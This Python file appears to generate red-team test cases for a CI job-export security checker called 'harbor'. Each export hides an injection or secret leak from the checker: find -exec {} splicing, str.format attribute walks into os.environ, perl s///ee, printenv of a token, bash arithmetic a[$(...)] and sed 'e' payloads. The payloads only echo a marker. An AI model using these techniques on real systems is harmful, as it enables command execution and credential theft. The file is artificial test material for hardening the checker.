# Round fifty-one attacks (helpers: round 50 lines 1-99 with r50 -> r51) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r51-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r51-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r51-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 51 attacks
# Written from the docs only (README, security.md, exports.md with every migration note through round fifty,
# agents.md). Each export is meant to look accepted by the documented rules.
TOKEN = "s3cr3tT0ken99"                                   # the harness's planted credential (server_env)
NEXUS = {"NEXUS_TOKEN": TOKEN}
SAY = "echo HARBOR-PWNED-$((6*7)) >&2"                    # no '/', no quote: fits file names and xargs items
PUSH = ('curl -fsS -u "ci:$NEXUS_TOKEN" --data-binary @"$HARBOR_RUN_DIR/%s" '
        'http://127.0.0.1:18766/service/rest/v1/notes >/dev/null')
REPORT = dict(ATT_JSON, description="the CI run's JSON report (as the CI server exports it)")

# ---- class 1: '{}' substituted inside a larger argument (find -exec sh -c '…{}…', xargs -I{} sh -c '…{}…')
C1 = "{} substituted inside an argument: find -exec / xargs -I make the caller's name code of a literal sh -c"
R("lint-bundle", C1, "Syntax-check the shell scripts of an uploaded bundle (.tar.gz) without running them.",
  {"bundle": dict(ATT_TGZ, description="a .tar.gz of shell scripts")},
  r"""
  dest="$HARBOR_RUN_DIR/bundle"
  mkdir -p "$dest"
  tar -xzf "$ARG_bundle" -C "$dest" --no-same-owner --no-same-permissions
  find "$dest" -type f -name '*.sh' -exec sh -c 'bash -n "{}" && echo "syntax ok: {}"' \;
  """,
  {"bundle": tgz({"x$(%s).sh" % SAY: (0o644, "echo hi\n")})},
  "Rule 7 says the file names find -exec puts at {} are the caller's, and a literal `sh -c` script is the "
  "author's code with its operands as data. GNU find replaces {} wherever it occurs inside an argument, so the "
  "name of a member of the caller's archive is spliced into the sh -c program text.")
R("checksum-manifest", C1, "Print the sha256 of each release file the uploaded manifest lists (one name a line).",
  {"manifest": dict(ATT_TXT, description="release file names, one a line; # starts a comment")},
  r"""
  grep -v '^#' -- "$ARG_manifest" |
    xargs -d '\n' -I{} sh -c 'if test -f "releases/{}"; then sha256sum -- "releases/{}"; else echo "missing: {}"; fi'
  """,
  {"manifest": b64("# release 1.4.2\nnotes-1.4.2.txt\nnotes$(%s).txt\n" % SAY)},
  "The docs say the items xargs reads from caller input are arguments of the caller's at the END of its command "
  "(rule 7). With -I{} they are not: xargs replaces {} inside the literal `sh -c` script, so an item becomes "
  "shell code.")

# ---- class 2: Python's str.format walks attributes of the caller's format string
C2 = "Python str.format on a caller's format string walks attributes (no dunder in the literal program) to os.environ"
R("report-digest", C2, "Format each row of data/report.csv with a line template and post the digest to the team's Nexus notes.",
  {"line": {"type": "string", "maxLength": 300,
            "description": "line template, e.g. '{r.date} {r.service}: {r.errors} errors of {r.requests}'"}},
  """
  python3 -I -c '
  import csv, sys
  from collections import namedtuple
  with open("data/report.csv", newline="") as f:
      rows = csv.reader(f)
      Row = namedtuple("Row", next(rows))
      lines = [sys.argv[1].format(r=r) for r in map(Row._make, rows)]
  print("\\n".join(lines))
  ' "$ARG_line" > "$HARBOR_RUN_DIR/digest.txt"
  cat "$HARBOR_RUN_DIR/digest.txt"
  """ + PUSH % "digest.txt",
  {"line": "{r.date} {r._make.__globals__[_sys].modules[os].environ[NEXUS_TOKEN]}"},
  "Rule 8: a literal python program is parsed and accepted when its modules are on the allowlist (csv, "
  "collections) and it reads no double-underscore attribute. The attribute walk happens in the caller's format "
  "string, which the checker sees only as data: `r._make` is a function of collections, whose globals lead to "
  "sys.modules['os'].environ, where the pass_env credential is.",
  head="pass_env: [NEXUS_TOKEN]\n", server_env=NEXUS)
R("user-card", C2, "Print a card for each active user of data/users.json with the caller's template.",
  {"template": {"type": "string", "maxLength": 300,
                "description": "card template, e.g. '{u.name} <{u.email}> ({u.team})'"}},
  """
  python3 -I - "$ARG_template" <<'PY'
  import json, sys
  from dataclasses import dataclass

  @dataclass
  class User:
      id: int
      name: str
      email: str
      team: str
      active: bool

  with open("data/users.json") as f:
      users = [User(**u) for u in json.load(f)]
  for u in users:
      if u.active:
          print(sys.argv[1].format(u=u))
  PY
  """.replace('"$ARG_template" <<', '"$ARG_template" > "$HARBOR_RUN_DIR/cards.txt" <<') + """
  cat "$HARBOR_RUN_DIR/cards.txt"
  """ + PUSH % "cards.txt",
  {"template": "{u.name} {u.__init__.__globals__[sys].modules[os].environ[NEXUS_TOKEN]}"},
  "Same class with a dataclass: `__init__`'s globals are the program's own (which imported sys), so the "
  "caller's template reaches sys.modules['os'].environ. The literal program holds no dunder and uses json, "
  "dataclasses and sys only. NEXUS_TOKEN is passed for curl, which posts the cards to Nexus.",
  head="pass_env: [NEXUS_TOKEN]\n", server_env=NEXUS,
  )

# ---- class 3: perl's own ways to evaluate text the docs' list does not name
C3 = "perl: s///ee evaluates the replacement, $ENV{$1} reads a variable the caller names"
R("render-notice", C3, "Render a release notice: {{ expr }} placeholders are filled from the release (e.g. {{ $version }}, {{ uc $env }}).",
  {"text": {"type": "string", "maxLength": 2000, "description": "the notice, one line"},
   "env": {"enum": ["staging", "production"]}},
  r"""
  version=$(git describe --tags --abbrev=0)
  printf '%s\n' "$ARG_text" | perl -e '
    my ($version, $env) = @ARGV;
    while (my $l = <STDIN>) { $l =~ s/\{\{\s*(.+?)\s*\}\}/$1/eeg; print $l }
  ' -- "$version" "$ARG_env"
  """,
  {"text": "Release {{ $version }} to {{ uc $env }} {{ system(q(%s)) }}" % SAY, "env": "staging"},
  "Rule 8 lists perl's eval, system, backticks, 2-argument open, <> and readline(ARGV). The literal program holds "
  "none of them as a call: `s///ee` evaluates the text the first /e produced, i.e. the caller's {{ … }}. "
  "The input is stdin, not <>.")
R("expand-vars", C3, "Expand ${NAME} in the caller's text from the deploy environment (like envsubst).",
  {"text": {"type": "string", "maxLength": 2000, "description": "text with ${APP_ENV}, ${APP_REGION}…"}},
  r"""
  printf '%s\n' "$ARG_text" | perl -e 'while (my $l = <STDIN>) { $l =~ s/\$\{(\w+)\}/$ENV{$1} \/\/ ""/ge; print $l }'
  printf 'deploy note for %s\n' "$APP_ENV" > "$HARBOR_RUN_DIR/note.txt"
  """ + PUSH % "note.txt",
  {"text": "env=${APP_ENV} token=${NEXUS_TOKEN}"},
  "Round 50 refused awk's ENVIRON[k] and jq's $ENV/env with a computed name. perl's %ENV is not named anywhere: "
  "`$ENV{$1}` looks up the variable the caller's text names, so the pass_env credential (used by curl below) "
  "is printed unscrubbed.",
  head="pass_env: [APP_ENV, APP_REGION, NEXUS_TOKEN]\n",
  server_env=dict(NEXUS, APP_ENV="staging", APP_REGION="eu-west-1"))

# ---- class 4: a pass_env credential printed by a name the caller chooses
C4 = "pass_env credential printed by a caller-chosen name (printenv NAME, bash ${!name}, os.environ.get)"
BUILDENV = "pass_env: [BUILD_FLAVOR, BUILD_REGION, NEXUS_TOKEN]\n"
BENV = dict(NEXUS, BUILD_FLAVOR="release", BUILD_REGION="eu-west-1")
R("build-setting", C4, "Show one setting of the build environment, then fetch the artifact index.",
  {"name": {"type": "string", "pattern": "^[A-Z][A-Z0-9_]{0,40}$", "description": "e.g. BUILD_FLAVOR"}},
  """
  printenv -- "$ARG_name" || echo "(not set)"
  curl -fsS -u "ci:$NEXUS_TOKEN" -o "$HARBOR_RUN_DIR/index.json" http://127.0.0.1:18766/service/rest/v1/search
  jq -r '.status' "$HARBOR_RUN_DIR/index.json"
  """,
  {"name": "NEXUS_TOKEN"},
  "printenv is a coreutils reader with a grammar: its operand is a name it prints. Rounds 47/48 hold "
  "NEXUS_TOKEN as a secret where curl takes it, but the printenv line never names it: the caller does.",
  head=BUILDENV, server_env=BENV)
R("build-setting-indirect", C4, "Show settings of the build environment by name (several, comma-separated).",
  {"names": {"type": "string", "pattern": "^[A-Z][A-Z0-9_,]{0,200}$", "description": "e.g. BUILD_FLAVOR,BUILD_REGION"}},
  """
  IFS=, read -r -a wanted <<< "$ARG_names"
  for n in "${wanted[@]}"; do
    [[ $n =~ ^[A-Z][A-Z0-9_]*$ ]] || continue
    printf '%s=%s\\n' "$n" "${!n}"
  done
  curl -fsS -u "ci:$NEXUS_TOKEN" -o /dev/null http://127.0.0.1:18766/service/rest/v1/status
  """,
  {"names": "BUILD_FLAVOR,NEXUS_TOKEN"},
  "Rule 3 names ${!x} only as 'reads another variable' (any text); a guarded name is a plain identifier, so "
  "nothing is code. But ${!n} reads the exported pass_env credential the caller named, and prints it unscrubbed.",
  head=BUILDENV, server_env=BENV)
R("build-setting-py", C4, "Show a build setting, with a default when unset.",
  {"name": {"type": "string", "pattern": "^[A-Z][A-Z0-9_]{0,40}$", "description": "e.g. BUILD_REGION"}},
  """
  python3 -I -c 'import os, sys; print(sys.argv[1] + "=" + os.environ.get(sys.argv[1], "(unset)"))' "$ARG_name"
  curl -fsS -u "ci:$NEXUS_TOKEN" -o /dev/null http://127.0.0.1:18766/service/rest/v1/status
  """,
  {"name": "NEXUS_TOKEN"},
  "The python program is literal, gets the caller's word only as sys.argv[1] and prints; round 50 named awk "
  "and jq as the readers of a computed environment name, not python's os.environ.",
  head=BUILDENV, server_env=BENV)

# ---- class 5: OAuth claims read back from the step's own environment by other readers
C5 = "OAuth claims read back from the environment (/proc/self/environ, perl %ENV), then put in a sed program"
R("my-groups-log", C5, "Show the last changelog lines, labelled with the groups the caller acts for.",
  {},
  r"""
  groups=
  while IFS='=' read -r k v; do
    if [[ $k == HARBOR_CALLER_GROUPS ]]; then groups=$v; fi
  done < <(cat /proc/self/environ | tr '\0' '\n')
  head -n 5 CHANGELOG.md | sed "s|^|[$groups] |"
  """,
  {},
  "The script never expands HARBOR_CALLER_GROUPS, so the rounds 45/46 rule for claims in a sed program does "
  "not see it. /proc/self/environ is a file no step writes (like /proc/loadavg, round 15), cat reads only it, "
  "and what read takes from < <(…) of such a command is the author's (rule 2).",
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:alice", "HARBOR_CALLER_TENANT": "acme",
          "HARBOR_CALLER_GROUPS": "ops|;1e %s;#" % SAY})
R("tenant-envs", C5, "List the environments configured for the caller's tenant.",
  {},
  r"""
  tenant=$(perl -e 'print lc $ENV{HARBOR_CALLER_TENANT}')
  sed -n "s/^$tenant-//p" config/environments.txt
  """,
  {},
  "perl's literal program reads no operand, no stdin and no file; %ENV is not among the readers round 50 named "
  "(awk ENVIRON, jq env). Its output is then the tenant claim in a sed program. The payload survives `lc`.",
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:alice",
          "HARBOR_CALLER_TENANT": "x//;1e echo harbor-pwned-$((6*7)) | tr [:lower:] [:upper:] >&2;#",
          "HARBOR_CALLER_GROUPS": "ops"})

# ---- class 6: bash arithmetic the docs do not list: [[ A -gt B ]] and ${s:OFFSET:LENGTH}
C6 = "bash arithmetic contexts not listed: [[ x -gt n ]] and ${s:off:len} evaluate a string arg"
R("tail-app-log", C6, "The last lines of logs/app.log (at most 500).",
  {"lines": {"type": "string", "default": "50", "maxLength": 40, "description": "how many lines (at most 500)"}},
  """
  if [[ $ARG_lines -gt 500 ]]; then echo "at most 500 lines" >&2; exit 1; fi
  tail -n "$ARG_lines" logs/app.log
  """,
  {"lines": "a[$(%s)]" % SAY},
  "tail -n takes a value; the check `[[ $ARG_lines -gt 500 ]]` is a test, not one of the arithmetic forms the "
  "docs list ((( )), $(( )), let, declare -i, subscripts, [[ -v ]]). bash evaluates both operands of -gt as "
  "arithmetic expressions, so the caller's a[$(…)] runs.")
R("short-log", C6, "Recent commit subjects, cut to a width.",
  {"width": {"type": "string", "default": "72", "maxLength": 40, "description": "characters per subject"},
   "count": {"type": "integer", "minimum": 1, "maximum": 50, "default": 10}},
  """
  git log -n "$ARG_count" --format=%s | while IFS= read -r s; do
    printf '%s\\n' "${s:0:$ARG_width}"
  done
  """,
  {"width": "a[$(%s)]" % SAY},
  "Rule 3 reads ${x:off} as giving any part of x (a leading-dash matter); the offset and length themselves "
  "are arithmetic, which bash evaluates with the caller's text.")

# ---- class 7: jq's raw output spelled another way is not JSON text
C7 = "jq raw output spelled -er / --raw-output is taken for JSON text, 'inert in arithmetic'"
R("ci-failures", C7, "How many tests failed in an uploaded CI report, and whether that is over the budget.",
  {"report": REPORT, "budget": {"type": "integer", "minimum": 0, "maximum": 100, "default": 0}},
  """
  failed=$(jq -er '.summary.failed // 0' "$ARG_report")
  if (( failed > ARG_budget )); then echo "over budget: $failed failed"; exit 1; fi
  echo "within budget"
  """,
  {"report": b64(json.dumps({"summary": {"failed": "a[$(%s)]" % SAY}}))},
  "After round 32, what jq prints without -r, -j, --seq or -C is JSON text, inert in arithmetic. `-er` is -e "
  "and -r clustered: the string is printed raw, and (( failed > … )) evaluates a[$(…)].")
R("ci-retries", C7, "Total retries over the jobs of an uploaded CI report.",
  {"report": REPORT},
  """
  total=0
  while read -r n; do
    (( total += n ))
  done < <(jq --raw-output '.jobs[].retries // 0' "$ARG_report")
  echo "retries: $total"
  """,
  {"report": b64(json.dumps({"jobs": [{"retries": 1}, {"retries": "a[$(%s)]" % SAY}]}))},
  "Same with the long spelling --raw-output; the read loop gives each printed line to (( total += n )).")

# ---- class 8: git show of a tree prints the revision as written
C8 = "git show REV:DIR prints 'tree REV:DIR': the caller's revision, taken as the repository's text"
R("env-images-at", C8, "The image of each environment at a revision.",
  {"rev": {"type": "string", "maxLength": 200, "description": "a tag, branch or commit, e.g. v1.4.2"}},
  """
  title=$(git show "$ARG_rev:deploy/envs/" | head -n 1)
  for f in deploy/envs/*.yaml; do
    git show "$ARG_rev:$f" | sed -n "s|^image:|$title ${f##*/}:|p"
  done
  """,
  {"rev": "HEAD^{/x|;1e %s;#}" % SAY},
  "Rule 2 takes what git show prints with a caller's revision (one word, no option) as the repository's text, "
  "excepting --source, -g, %S/%g, which print the revision as written. A tree prints it too: 'tree REV:DIR'. "
  "REV's ^{/regex} only has to match a commit message (ERE alternation).")

# ---- class 9: the run directory reached through a caller_file variable trimmed with ${x%/*}
C9 = "the run directory reached as ${HARBOR_STEP_OUTPUT%/*}: a step's own log read as the author's file"
X("search-summary", C9, "Search logs/app.log for a text, then summarize the matches.",
  {"q": {"type": "string", "maxLength": 200, "description": "text to search for"}},
  [("search", """
    printf 'matches for %s\\n' "$ARG_q"
    grep -F -e "$ARG_q" -- logs/app.log || true
    """, None),
   ("summary", """
    logs="${HARBOR_STEP_OUTPUT%/*}"
    header=$(head -n 1 -- "$logs/1-search.stdout.log")
    n=$(grep -c . -- "$logs/1-search.stdout.log" || true)
    echo "$n lines" | sed "s|^|$header: |"
    """, None)],
  {"q": "x|;1e %s;#" % SAY},
  "Round 44 makes the author's literal \"$HARBOR_RUN_DIR/…\" paths the author's unless a step fills the run "
  "directory, and names steps/ as holding caller data. Here the folder is spelt ${HARBOR_STEP_OUTPUT%/*} "
  "(round 42 lists ${d,,}, ${d^^}, ${d/x/y}, ${d@L}, ${!d} as rewrites that make a place, not %): head of a "
  "file no step writes looks like the author's text, and goes into sed.")

# ---- class 10: a repository write through git worktree add -b
C10 = "git worktree add -b: a branch named by the caller, read back by for-each-ref into a sed program"
X("build-branch", C10, "Check out a new branch from HEAD in a scratch worktree and list the branches.",
  {"branch": {"type": "string", "maxLength": 100, "description": "name of the new branch"}},
  [("worktree", """
    git worktree add -q -b "$ARG_branch" "$HARBOR_RUN_DIR/wt" HEAD
    git worktree remove --force "$HARBOR_RUN_DIR/wt"
    """, None),
   ("branches", """
    git for-each-ref --format='%(refname:short)' refs/heads/ | while IFS= read -r b; do
      git log -1 --format=%s "refs/heads/$b" | sed "s|^|$b: |"
    done
    """, None)],
  {"branch": "x|;1e${IFS}echo${IFS}HARBOR-PWNED-$((40+2))>&2;#"},
  "Rule 2 lists git commit, git tag, git notes… as the writes that make the repository the caller's; "
  "`git worktree add -b` creates a ref from the caller's text outside the work tree (in the run directory). "
  "for-each-ref then prints it as the repository's text.")
